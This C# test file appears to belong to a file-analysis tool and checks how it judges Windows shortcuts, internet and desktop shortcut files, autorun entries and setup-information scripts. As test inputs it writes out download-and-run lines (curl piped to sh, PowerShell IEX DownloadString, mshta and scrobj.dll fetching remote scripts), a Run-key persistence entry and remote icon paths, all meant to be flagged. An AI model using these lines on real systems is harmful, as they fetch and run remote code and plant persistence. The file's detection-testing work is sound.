using System.Buffers.Binary;
using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Shortcuts: what they start, and from where.</summary>
public sealed class ShortcutTests
{
    private static byte[] Link(string relativePath, string arguments, string? icon = null, byte[]? behind = null)
    {
        var header = new byte[0x4C];
        new byte[] { 0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46 }.CopyTo(header, 0);
        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(0x14), 0x80 | 0x08 | 0x20 | (icon is null ? 0 : 0x40));
        return
        [
            .. header,
            .. new[] { relativePath, arguments, icon }.Where(text => text is not null)
                .SelectMany(text => BitConverter.GetBytes((ushort)text!.Length).Concat(Encoding.Unicode.GetBytes(text))),
            0, 0, 0, 0, .. behind ?? [],
        ];
    }

    [Theory]
    [InlineData(@"..\Windows\System32\cmd.exe", "/c start http://a.example", "shortcut.command")]
    [InlineData(@"..\a\mshta.exe", "http://a.example/x.hta", "shortcut.command")]
    [InlineData(@"..\Documents\a.pdf", "", null)]
    public void Complete_Link_IsJudgedByWhatItStarts(string path, string arguments, string? rule)
    {
        var alone = Judged.Of(Link(path, arguments));
        var inside = Judged.Of(ZipMaker.Pack(("a.lnk", Link(path, arguments))));

        alone.Verdict.ShouldBe(rule is null ? Verdict.Unable : Verdict.Suspicious, Judged.Text(alone));
        alone.Findings.Single(finding => finding.Rule == "shortcut.target").Excerpt!.ShouldContain(path);
        inside.Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
        if (rule is not null)
        {
            alone.Rules().ShouldContain(rule);
        }
    }

    [Theory]
    [InlineData(@"\\.\STORAGE#Volume#a\b.tmp", true)]
    [InlineData(@"E:\a.dll", true)]
    [InlineData(@"\\192.0.2.1\s\a.cpl", true)]
    [InlineData(@"C:\Windows\System32\..\Temp\a.dll", true)]
    [InlineData(@"C:\WINDOWS\system32\timedate.cpl", false)]
    [InlineData("Speech Recognition", false)]
    public void Complete_ItemOfTheControlPanel_IsSuspiciousIfItIsNotOfWindows(string file, bool isFound)
    {
        byte[] item =
        [
            .. new byte[12], .. new Guid("21EC2020-3AEA-1069-A2DD-08002B30309D").ToByteArray(), .. new byte[24],
            .. Encoding.Unicode.GetBytes($"{file}\0A name\0"), 0, 0,
        ];
        var link = Link("", "");
        link[0x14] |= 1;
        var report = Judged.Of([.. link[..0x4C], .. BitConverter.GetBytes((ushort)item.Length), .. item, .. link[0x4C..]]);

        report.Verdict.ShouldBeOneOf(isFound ? [Verdict.Suspicious, Verdict.Malicious] : [Verdict.Unable], Judged.Text(report));
        report.Findings.Any(finding => finding.Rule == "shortcut.panel-item" && finding.Excerpt == file).ShouldBe(isFound);
    }

    [Fact]
    public void Complete_LinkThatHidesSomething_IsSuspicious()
    {
        Judged.Of(Link("a.exe", new string(' ', 200) + "x")).Rules().ShouldContain("shortcut.padded");
        Judged.Of(Link("a.exe", "", @"\\a.example\s\i.ico")).Rules().ShouldContain("shortcut.remote");
        Judged.Of(Link("a.exe", "", null, [.. Samples.Program, .. new byte[2000]])).Verdict.ShouldBe(Verdict.Suspicious);
        Judged.Of([.. Link("a.exe", "")[..0x4C]]).Verdict.ShouldBe(Verdict.Unable);
    }

    [Theory]
    [InlineData("[InternetShortcut]\r\nURL=https://a.example/\r\n", Verdict.Unable)]
    [InlineData("[InternetShortcut]\r\nURL=file://a.example/share/a.exe\r\n", Verdict.Suspicious)]
    [InlineData("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\n"
        + "URL=https://a.example/\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
    [InlineData("[InternetShortcut]\r\nURL=search-ms:query=a\r\n", Verdict.Suspicious)]
    [InlineData("[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://a.example | sh'\n", Verdict.Suspicious)]
    [InlineData("[Shell]\r\nCommand=2\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
    [InlineData("[autorun]\r\nopen=cmd.exe /c a\r\n", Verdict.Suspicious)]
    public void Complete_ShortcutInText_IsJudgedByWhereItLeads(string text, Verdict verdict)
    {
        var alone = Judged.Of(text);

        alone.Verdict.ShouldBe(verdict, Judged.Text(alone));
        Judged.Of(ZipMaker.Pack(("a", text))).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
    }

    [Theory]
    [InlineData("/*\n[Version]\n[a]\n*/ new ActiveXObject('WScript.Shell').Run('calc');", "a.js")]
    [InlineData("[Version]\n[string]\nIEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
    [InlineData("<!--\n[Version]\n[x]\n--><html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>", "a.html")]
    public void Complete_ScriptWithLinesOfSections_IsNoSetupInformation(string text, string name)
    {
        var alone = Judged.Of(text);

        alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
        Judged.Of(ZipMaker.Pack((name, text))).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
    }

    [Fact]
    public void Complete_SetupInformationWithNameOfAScript_IsNoSetupInformation() =>
        Judged.Of(ZipMaker.Pack(("a.js", "[Version]\n[a]\nnew ActiveXObject('WScript.Shell').Run('calc')"))).Verdict
            .ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);

    [Fact]
    public void Complete_LargeSetupInformation_IsUnable()
    {
        var head = "[Version]\nSignature=x\n[Strings]\n";
        string TextOf(int length) => head + string.Concat(Enumerable.Repeat("a = 1\n", (length - head.Length) / 6));

        Judged.Of(TextOf(1024 * 1024)).Verdict.ShouldBe(Verdict.Clean);
        Judged.Of(TextOf((1024 * 1024) + 100)).Verdict.ShouldBe(Verdict.Unable);
        Judged.Of(TextOf(3 * 1024 * 1024)).Verdict.ShouldBe(Verdict.Unable);
    }

    [Theory]
    [InlineData("[version]\nSignature=$chicago$\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=U\n[U]\n"
        + "%11%\\scrobj.dll,NI,http://a.example/a.sct\n", true)]
    [InlineData("; a\r\n[Version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nRunPreSetupCommands = A:1, B\r\n[b]\r\ncmd /c x\r\n", true)]
    [InlineData("[Version]\nSignature=x\n[DefaultInstall.NT]\nRunPostSetupCommands=A:1\n[A]\nrundll32 a.dll,b\n", true)]
    [InlineData("[Version]\nSignature=x\n[DefaultInstall]\nAddReg=R\n[R]\n"
        + "HKLM,\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\",x,,\"a.exe\"\n", true)]
    [InlineData("[Version]\nSignature=x\nClass=Printer\n[Manufacturer]\n%M%=Models\n[Models]\n\"A\"=I,USBPRINT\\a\n[I]\n"
        + "CopyFiles=@a.gpd\n", false)]
    [InlineData("[Version]\nSignature=x\n[DefaultInstall]\nRegisterOCXs=R\n[R]\n%11%\\a.ocx\n", false)]
    public void Complete_SetupInformation_IsJudgedByWhatItRuns(string text, bool runs)
    {
        foreach (var file in (byte[][])[Samples.Bytes(text), [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)]])
        {
            var report = Judged.Of(file);

            report.MediaType.ShouldBe("application/x-setupscript");
            report.Verdict.ShouldBe(runs ? Verdict.Suspicious : Verdict.Clean, Judged.Text(report));
            report.Rules().Contains("shortcut.setup-runs").ShouldBe(runs);
        }
    }
}
